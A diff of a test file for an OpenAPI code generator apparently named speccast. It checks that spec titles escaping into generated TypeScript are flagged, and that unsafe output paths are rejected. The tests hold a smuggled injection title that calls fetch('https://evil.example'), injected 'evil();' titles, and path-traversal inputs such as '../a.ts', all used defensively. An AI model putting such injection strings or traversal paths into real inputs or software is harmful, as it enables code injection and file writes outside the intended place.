@@ -1,19 +1,19 @@
 import { describe, expect, test } from 'vitest';
 import { printDiagnostic } from 'speccast';
 import type { SourceFile } from 'speccast/emitter';
-import { Diagnostics, readSpec } from '../../spec/read-text.js';
-import { printVerified } from '../../../generator/output/print/print-package.js';
+import { printProven } from './print-proven.js';
 
-/** A spec whose title, on line 3, is a text that some escaper keeps inside a literal or a comment. */
-async function buildWithout(text: string, body: (text: string) => string): Promise<readonly string[]> {
-  const diagnostics = new Diagnostics();
-  const spec = `openapi: 3.1.0\ninfo:\n  title: ${JSON.stringify(text)}\n  version: '1'\npaths: {}\n`;
-  const document = readSpec({ file: 'spec.yaml', text: spec }, { readFile: () => undefined, diagnostics });
-  if (document === undefined) throw new Error('the spec was refused');
-  const file: SourceFile = { kind: 'source', path: 'src/a.ts', imports: [], body: [body(text)] };
-  const source = { command: 'speccast generate' };
-  await printVerified([file], ['src/a.ts'], { source, format: true, document, diagnostics });
-  return diagnostics.list.map(printDiagnostic);
+/** What a build says of modules whose code has the title of their spec, a text that some escaper keeps inside a literal or a comment. */
+async function buildWithout(
+  title: string,
+  ...bodies: readonly ((title: string) => string)[]
+): Promise<readonly string[]> {
+  const files = bodies.map((body, index): SourceFile => {
+    const path = `src/${'abc'.charAt(index)}.ts`;
+    return { kind: 'source', path, imports: [], body: [body(title)] };
+  });
+  const { diagnostics } = await printProven(files, { title });
+  return diagnostics.map(printDiagnostic);
 }
 
 describe('where an escaper is missing, the build fails at the place of the text in the spec', () => {
@@ -60,5 +60,69 @@ describe('where the output does not even parse, the build fails', () => {
     await expect(buildWithout('Pets', () => 'export const = 1;')).rejects.toThrow(
       /^src\/a\.ts:3 does not parse: .+: export const = 1;$/,
     );
+  });
+});
+
+describe('text that became code is found', () => {
+  const becameCode = (line: number, reason: string): string =>
+    `spec.yaml:3:10 error text-became-code: This text would run as code in src/a.ts:${line} (${reason}); please report it`;
+
+  test('where it is written with other quotes and spaces', async () => {
+    const title = "a '; fetch('https://evil.example'); '";
+    const code = 'export const title = \'a \';\nfetch( "https://evil.example" );';
+    expect(await buildWithout(title, () => code)).toEqual([
+      becameCode(4, 'acts when it is loaded'),
+      becameCode(4, 'calls what has no name of a function'),
+    ]);
+  });
+
+  test.each([
+    ['before', 4, (text: string) => `rest;\n${text}`],
+    ['after', 3, (text: string) => `${text}\nrest;`],
+  ])('and nothing is said of code that stands %s it', async (_, line, body) => {
+    expect(await buildWithout('evil();', body)).toEqual([
+      becameCode(line, 'acts when it is loaded'),
+      becameCode(line, 'calls what has no name of a function'),
+    ]);
+  });
+
+  test('but a file without it is a fault of speccast', async () => {
+    await expect(buildWithout('Pets', () => 'fetch();')).rejects.toThrow('src/a.ts:3 acts when it is loaded: fetch();');
+    const evil = (text: string): string => text;
+    await expect(buildWithout('evil();', evil, () => 'rest;')).rejects.toThrow(
+      'src/b.ts:3 acts when it is loaded: rest;',
+    );
+  });
+});
+
+describe('a path of a file', () => {
+  const printAt = (...paths: readonly string[]): Promise<unknown> =>
+    printProven(paths.map((path) => ({ kind: 'source', path, imports: [], body: ['export const a = 1;'] })));
+
+  test.each([
+    '../a.ts',
+    '/a.ts',
+    'a/../b.ts',
+    'a//b.ts',
+    'a\\b.ts',
+    'a\nb.ts',
+    'src/con.ts',
+    'NUL',
+    'a.',
+    'a b.ts',
+    '',
+  ])('is not %j', async (path) => {
+    await expect(printAt(path)).rejects.toThrow(`Not a path for an output file: ${JSON.stringify(path)}`);
+  });
+
+  test('is no other than that of another file but for case', async () => {
+    await expect(printAt('src/a.ts', 'src/A.ts')).rejects.toThrow(
+      'Two output files with one name: src/a.ts and src/A.ts',
+    );
+  });
+
+  test('is an ordinary one', async () => {
+    const paths = ['.speccast.ts', 'src/a.ts', 'src/models/ad-units.ts'];
+    expect(await printAt(...paths)).toMatchObject({ files: paths.map((path) => ({ path })), diagnostics: [] });
   });
 });
